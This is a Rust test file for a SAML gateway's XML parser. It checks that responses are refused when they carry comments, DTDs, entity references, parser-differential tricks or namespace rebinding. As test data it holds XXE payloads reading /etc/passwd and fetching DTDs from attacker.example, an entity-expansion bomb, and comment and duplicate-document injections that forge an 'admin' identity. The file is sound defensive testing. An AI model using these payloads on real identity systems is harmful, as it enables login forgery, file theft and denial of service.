//! Documents that readers of XML differ about.

use super::*;

const DTD: SamlRefused =
    SamlRefused::Xml("it has a DTD, a CDATA section or a processing instruction");
const COMMENT: SamlRefused = SamlRefused::Xml("it has a comment");
const ENTITY_REFERENCE: SamlRefused = SamlRefused::Xml("it refers to an entity");

/// Puts a DTD where one may stand.
fn with_dtd(xml: &str, dtd: &str) -> String {
    xml.replacen("<ns0:Response", &format!("{dtd}<ns0:Response"), 1)
}

#[test]
fn a_name_is_not_cut_at_a_comment() {
    let w = world();
    // The provider has both people: it signs what it is given, and canonical forms have no comments.
    for name in [
        "admin<!---->@corp.example",
        "admin<!-- x -->.evil",
        "<!---->admin",
        "ana<!-- -->",
    ] {
        let xml = w.made(json!({"edits": [[">ana-7f3c<", format!(">{name}<")]]}));
        w.refuses(&xml, COMMENT);
    }
    let good = w.good();
    // In a comment the forger may write without the provider; the signature stays good.
    for (old, new) in [
        (">ana-7f3c<", ">ana<!---->-7f3c<"),
        (">dba<", "><!-- x -->dba<"),
        ("<ns1:Subject>", "<ns1:Subject><!-- x -->"),
        ("<ns2:SignedInfo>", "<ns2:SignedInfo><!-- x -->"),
        ("<ns2:DigestValue>", "<ns2:DigestValue><!--AAAA-->"),
        ("<ns2:SignatureValue>", "<ns2:SignatureValue><!--AAAA-->"),
        ("</ns0:Response>", "</ns0:Response><!-- x -->"),
        ("<ns0:Response", "<!-- x --><ns0:Response"),
        ("<ns0:Status>", "<ns0:Status><!-- x -->"),
    ] {
        w.refuses(&good.replacen(old, new, 1), COMMENT);
    }
    for (old, new) in [
        (">ana-7f3c<", "><![CDATA[admin]]><"),
        (">ana-7f3c<", ">ana<?x y?>-7f3c<"),
        (">ana-7f3c<", ">ana<![CDATA[-7f3c]]><"),
        ("<ns2:SignatureValue>", "<ns2:SignatureValue><?x?>"),
        ("</ns0:Response>", "</ns0:Response><?x?>"),
    ] {
        w.refuses(&good.replacen(old, new, 1), DTD);
    }
    w.accepts(&good);
}

#[test]
fn there_is_no_dtd_and_no_entity() {
    let w = world();
    let good = w.good();
    for dtd in [
        "<!DOCTYPE r>",
        "<!DOCTYPE r [<!ENTITY e \"admin\">]>",
        "<!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
        "<!DOCTYPE r SYSTEM \"https://attacker.example/x.dtd\">",
        "<!DOCTYPE r [<!ENTITY % p SYSTEM \"https://attacker.example/x\"> %p;]>",
        "<!DOCTYPE r [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]>",
        "<!DOCTYPE r [<!ATTLIST ns1:Assertion ID ID #IMPLIED x CDATA \"y\">]>",
        "<!DOCTYPE ns0:Response [<!NOTATION n PUBLIC \"x\">]>",
        "<!doctype r>",
    ] {
        w.refuses(&with_dtd(&good, dtd), DTD);
        w.refuses(&format!("{dtd}{good}"), DTD);
    }
    for reference in ["&e;", "&nbsp;", "&lt2;", "&#x26;e;"] {
        let xml = good.replace(">ana-7f3c<", &format!(">{reference}<"));
        let why = w.refuses_all(reference, &xml);
        assert!(
            matches!(why, ENTITY_REFERENCE | SamlRefused::Signature),
            "{reference}: {why}"
        );
    }
    w.accepts(&good);
}

/// CVE-2025-25291, 25292 and 66567: two parsers saw two documents in one. Here is one parser, and it refuses what they
/// saw differently.
#[test]
fn what_parsers_differ_about_is_refused() {
    let w = world();
    let good = w.good();
    let after_declaration = good.split_once("?>").unwrap().1.trim_start().to_owned();
    let evil = after_declaration.replace(">ana-7f3c<", ">admin<");
    for (what, xml) in [
        (
            "a document type that holds a document",
            with_dtd(
                &good,
                &format!("<!DOCTYPE r [<!ENTITY x '<!--'>]>{evil}<!---->"),
            ),
        ),
        (
            "a declaration in a quoted literal",
            with_dtd(&good, "<!DOCTYPE r [<!ENTITY x '\">]><!--'>]>"),
        ),
        ("two documents", format!("{after_declaration}{evil}")),
        (
            "two documents, evil first",
            format!("{evil}{after_declaration}"),
        ),
        ("a zero byte", format!("{good}\0{evil}")),
        (
            "a zero byte in a name",
            good.replace(">ana-7f3c<", ">admin\0<"),
        ),
        (
            "an end tag of another name",
            good.replace("</ns1:NameID>", "</ns1:nameID>"),
        ),
        (
            "an end tag with attributes",
            good.replace("</ns1:NameID>", "</ns1:NameID x=\"y\">"),
        ),
        (
            "no white space between attributes",
            good.replace("\" Version=", "\"Version="),
        ),
        (
            "an attribute without a value",
            good.replace("<ns1:Subject>", "<ns1:Subject x>"),
        ),
        (
            "an attribute without quotes",
            good.replace("Version=\"2.0\"", "Version=2.0"),
        ),
        (
            "a less-than in an attribute",
            good.replace("SessionIndex=\"", "SessionIndex=\"<"),
        ),
        ("text outside", format!("{good}x")),
        ("text before", format!("x{after_declaration}")),
        ("white space before the declaration", format!(" {good}")),
        ("two declarations", format!("<?xml version=\"1.0\"?>{good}")),
        (
            "another version",
            good.replace("version=\"1.0\"", "version=\"1.1\""),
        ),
        (
            "another encoding",
            format!("<?xml version=\"1.0\" encoding=\"UTF-7\"?>{after_declaration}"),
        ),
        ("a byte order mark", format!("\u{feff}{good}")),
        (
            "the end of a CDATA section in text",
            good.replace(">ana-7f3c<", ">ana]]>-7f3c<"),
        ),
        ("an unclosed tag", good.replace("</ns0:Response>", "")),
        ("a start tag at the end", format!("{good}<")),
        (
            "a colon at the start of a name",
            good.replace("ns1:NameID", ":NameID"),
        ),
        (
            "a name with two colons",
            good.replace("ns1:NameID", "ns1:x:NameID"),
        ),
        (
            "a name that is not of ASCII",
            good.replace("ns1:NameID", "ns1:NameİD"),
        ),
        (
            "a surrogate by reference",
            good.replace(">ana-7f3c<", ">&#xD800;<"),
        ),
        ("no character", good.replace(">ana-7f3c<", ">\u{ffff}<")),
        ("nothing", String::new()),
        ("only a declaration", "<?xml version=\"1.0\"?>".to_owned()),
        ("JSON", "{\"Response\": 1}".to_owned()),
    ] {
        let why = w
            .gateway
            .finish(&STANDARD.encode(&xml), REQUEST, issued(&good));
        assert!(matches!(why, Err(SamlRefused::Xml(_))), "{what}: {why:?}");
    }
    for bytes in [
        good.encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect::<Vec<u8>>(),
        [b"\xff\xfe".as_slice(), good.as_bytes()].concat(),
        good.replace("ana-7f3c", "an\u{e9}")
            .chars()
            .map(|c| u8::try_from(c).unwrap())
            .collect(),
        good.replace("ana-7f3c", "X")
            .into_bytes()
            .into_iter()
            .flat_map(|b| if b == b'X' { vec![0xc0, 0xbc] } else { vec![b] })
            .collect(),
    ] {
        let why = w
            .gateway
            .finish(&STANDARD.encode(bytes), REQUEST, issued(&good));
        assert!(matches!(why, Err(SamlRefused::Xml(_))), "{why:?}");
    }
    w.accepts(&good);
}

#[test]
fn names_are_what_their_namespaces_say() {
    let w = world();
    let good = w.good();
    let saml = "urn:oasis:names:tc:SAML:2.0:assertion";
    let samlp = "urn:oasis:names:tc:SAML:2.0:protocol";
    let ds = "http://www.w3.org/2000/09/xmldsig#";
    for (namespace, other) in [
        (saml, "urn:oasis:names:tc:SAML:1.0:assertion"),
        (samlp, "urn:x"),
        (ds, "urn:x"),
        (saml, samlp),
    ] {
        let xml = good.replace(&format!("=\"{namespace}\""), &format!("=\"{other}\""));
        let why = w.refuses_all(other, &xml);
        assert!(!matches!(why, SamlRefused::Signature), "{why}");
    }
    // A prefix that comes to mean something else within the signed part.
    for at in [
        "<ns1:Subject>",
        "<ns1:NameID ",
        "<ns1:AttributeStatement>",
        "<ns1:Assertion ",
    ] {
        let changed = at.replace(['>', ' '], "");
        let rest = at.strip_prefix(&changed).unwrap();
        let xml = good.replacen(at, &format!("{changed} xmlns:ns1=\"urn:x\"{rest}"), 1);
        w.refuses_all(at, &xml);
        // The same meaning, said again, is no change.
        let same = good.replacen(at, &format!("{changed} xmlns:ns1=\"{saml}\"{rest}"), 1);
        let gateway = w.other(|_| {});
        finish_at(&gateway, &same, issued(&good)).unwrap();
    }
    // An attribute with a namespace is another attribute.
    for (old, new) in [
        (" ID=\"", " ns0:ID=\""),
        ("Recipient=", "ns1:Recipient="),
        ("InResponseTo=", "xsi:InResponseTo="),
        ("Algorithm=", "ns2:Algorithm="),
    ] {
        w.refuses_all(new, &good.replace(old, new));
    }
    for bad in [
        "xmlns:xml=\"urn:x\"",
        "xmlns:xmlns=\"urn:x\"",
        "xmlns:p=\"\"",
        "xmlns:p=\"http://www.w3.org/2000/xmlns/\"",
        "xmlns=\"http://www.w3.org/XML/1998/namespace\"",
        "xmlns:p=\"urn:a\" xmlns:p=\"urn:a\"",
        "p:x=\"y\"",
        "xmlns:p=\"urn:a\" xmlns:q=\"urn:a\" p:x=\"1\" q:x=\"2\"",
        "ID=\"x\" ID=\"x\"",
        "xmlns:ns1=\"x y\"",
    ] {
        let xml = good.replacen("<ns0:Response ", &format!("<ns0:Response {bad} "), 1);
        let why = w.refuses_all(bad, &xml);
        assert!(matches!(why, SamlRefused::Xml(_)), "{bad}: {why}");
    }
    w.accepts(&good);
}
